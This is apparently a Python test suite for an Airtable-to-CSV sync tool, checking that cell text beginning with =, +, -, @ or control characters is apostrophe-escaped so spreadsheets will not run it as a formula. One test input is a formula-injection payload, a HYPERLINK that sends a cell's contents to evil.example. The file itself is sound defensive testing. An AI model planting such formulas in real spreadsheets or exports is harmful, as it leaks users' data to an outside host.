"""Formulas that arrive from Airtable do not wake up in a spreadsheet, and come back as they were."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airsync_gui.local.csv_formulas import escaped, unescaped
from airsync_gui.local.csv_table import CsvTable
from airsync_gui.sync.ports import LocalChange
from airsync_gui.sync.records import Value
from airsync_gui.sync.schema import Field

NAME = Field("fldName", "Name", "singleLineText")
AGE = Field("fldAge", "Age", "number")
TAGS = Field("fldTags", "Tags", "multipleSelects")
FIELDS = {"Name": NAME, "Age": AGE, "Tags": TAGS}
EVIL = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "people.csv"
    path.write_text("Name,Age,Tags\nAda,-3,x\n")
    return path


@given(st.text(st.sampled_from("'=+-@\t\ra1 "), max_size=6))
def test_whatever_the_text_it_comes_back(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", [EVIL, "+1", "-x", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@"])
def test_a_text_that_would_be_a_formula_gets_an_apostrophe(file: Path, text: str) -> None:
    reading = CsvTable(file, escape_formulas=True).read(FIELDS)
    [result] = reading.write([LocalChange("update", reading.rows[0].row_id, {"fldName": text})])
    assert result.row is not None
    assert result.row.values["fldName"] == text
    assert ("'" + text).replace('"', '""') in file.read_bytes().decode()
    assert CsvTable(file, escape_formulas=True).read(FIELDS).rows[0].values["fldName"] == text


def test_numbers_and_harmless_texts_stay_as_they_are(file: Path) -> None:
    reading = CsvTable(file, escape_formulas=True).read(FIELDS)
    change: dict[str, Value] = {"fldName": "it's = x", "fldAge": Decimal(-4), "fldTags": ("a", "=b")}
    reading.write([LocalChange("update", reading.rows[0].row_id, change)])
    assert file.read_text() == 'Name,Age,Tags\nit\'s = x,-4,"a, =b"\n'


def test_lists_and_new_rows_are_escaped_too(file: Path) -> None:
    reading = CsvTable(file, escape_formulas=True).read(FIELDS)
    reading.write([LocalChange("create", None, {"fldName": "@x", "fldTags": ("=a", "b")})])
    assert file.read_text().splitlines()[2] == "'@x,,\"'=a, b\""
    assert CsvTable(file, escape_formulas=True).read(FIELDS).rows[1].values["fldTags"] == ("=a", "b")


def test_a_formula_that_was_there_is_read_and_left(file: Path) -> None:
    file.write_text("Name,Age,Tags\n=1+1,1,x\nBen,2,y\n")
    reading = CsvTable(file, escape_formulas=True).read(FIELDS)
    assert reading.rows[0].values["fldName"] == "=1+1"
    reading.write([LocalChange("update", reading.rows[1].row_id, {"fldName": "Bob"})])
    assert file.read_text() == "Name,Age,Tags\n=1+1,1,x\nBob,2,y\n"


def test_unless_asked_for_texts_are_written_as_they_are(file: Path) -> None:
    reading = CsvTable(file).read(FIELDS)
    reading.write([LocalChange("update", reading.rows[0].row_id, {"fldName": "'=1"})])
    assert file.read_text() == "Name,Age,Tags\n'=1,-3,x\n"
